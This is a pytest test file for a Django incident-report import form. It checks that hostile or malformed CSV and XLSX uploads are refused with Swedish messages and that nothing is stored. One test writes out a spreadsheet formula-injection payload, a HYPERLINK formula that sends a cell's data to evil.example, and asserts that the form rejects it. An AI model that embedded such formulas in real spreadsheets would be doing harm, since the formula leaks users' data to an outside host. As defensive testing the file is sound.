"""Hostile and broken files through the report import form: Swedish message, nothing stored."""

from __future__ import annotations

import codecs

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from lofte.incidents.models import Incident
from lofte.tabular.tests.uploads import hostile_files, xlsx_bytes

pytestmark = pytest.mark.django_db

HEADER = ["kategori", "från", "plats", "beskrivning"]
GOOD = ["Klotter", "2026-02-01 21:30", "Resecentrum", "Tag på väggen"]
CASES = hostile_files(HEADER, GOOD)


def post(client, name: str, content: bytes):
    return client.post(reverse("incidents:import", kwargs={"slug": "vetlanda"}),
                       {"file": SimpleUploadedFile(name, content)})


def refused(client, name: str, content: bytes) -> list:
    before = Incident.objects.count()
    response = post(client, name, content)
    assert response.status_code == 422
    assert Incident.objects.count() == before
    return response.context["row_errors"]


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_file_is_refused_with_a_clear_message(login, coordinator, vetlanda, categories,
                                                     place, case):
    name, content, words, row = CASES[case]
    errors = refused(login(coordinator), name, content)
    assert len(errors) == 1
    assert words in errors[0].message
    assert errors[0].line == (row or 1)


def test_the_same_rows_import_when_the_file_is_clean(login, coordinator, vetlanda, categories,
                                                     place):
    csv_text = ";".join(HEADER) + "\n" + ";".join(GOOD) + "\n"
    client = login(coordinator)
    assert post(client, "r.xlsx", xlsx_bytes([HEADER, GOOD])).status_code == 302
    assert post(client, "r.csv", codecs.BOM_UTF16_LE + csv_text.encode("utf-16-le")
                ).status_code == 302
    assert post(client, "r.csv", csv_text.encode("cp1252")).status_code == 302
    assert list(Incident.objects.values_list("description", flat=True)) == ["Tag på väggen"] * 3


def test_too_many_rows_names_the_first_row_past_the_limit(login, coordinator, vetlanda,
                                                          categories, place, monkeypatch):
    from lofte.incidents import importing

    monkeypatch.setattr(importing, "MAX_ROWS", 2)
    content = xlsx_bytes([HEADER, GOOD, GOOD, GOOD, GOOD])
    errors = refused(login(coordinator), "r.xlsx", content)
    assert [(e.line, e.message) for e in errors] == [(4, "Högst 2 rader per fil.")]


def test_over_long_cell_names_row_and_column(login, coordinator, vetlanda, categories, place):
    long_row = [*GOOD[:3], "x" * 4001]
    content = ("\n".join(";".join(r) for r in (HEADER, GOOD, long_row)) + "\n").encode()
    errors = refused(login(coordinator), "r.csv", content)
    assert [(e.line, e.message) for e in errors] == [
        (3, "beskrivning: Värdet är längre än 4000 tecken")]


def test_values_outside_the_header_are_not_silently_dropped(login, coordinator, vetlanda,
                                                            categories, place):
    # An unquoted comma in a description used to cut the description silently.
    content = "kategori,från,plats,beskrivning\nKlotter,2026-02-01 21:30,Resecentrum,a, b\n"
    errors = refused(login(coordinator), "r.csv", content.encode())
    assert errors[0].line == 2 and "utanför" in errors[0].message


def test_formula_looking_cells_are_validated_not_evaluated(login, coordinator, vetlanda,
                                                           categories, place):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
    rows = [HEADER, GOOD, [formula, *GOOD[1:]]]
    content = "\n".join(";".join(f'"{c.replace(chr(34), 2 * chr(34))}"' for c in r)
                        for r in rows).encode()
    errors = refused(login(coordinator), "r.csv", content)
    assert [e.line for e in errors] == [3]
    assert errors[0].message == f"kategori: ”{formula}” finns inte i samverkans lista"


def test_blank_rows_do_not_shift_row_numbers(login, coordinator, vetlanda, categories, place):
    content = "kategori;från;plats\n\nKlotter;2026-02-01 21:30;Resecentrum\n\nokänd;igår;x\n"
    errors = refused(login(coordinator), "r.csv", content.encode())
    assert {e.line for e in errors} == {5}
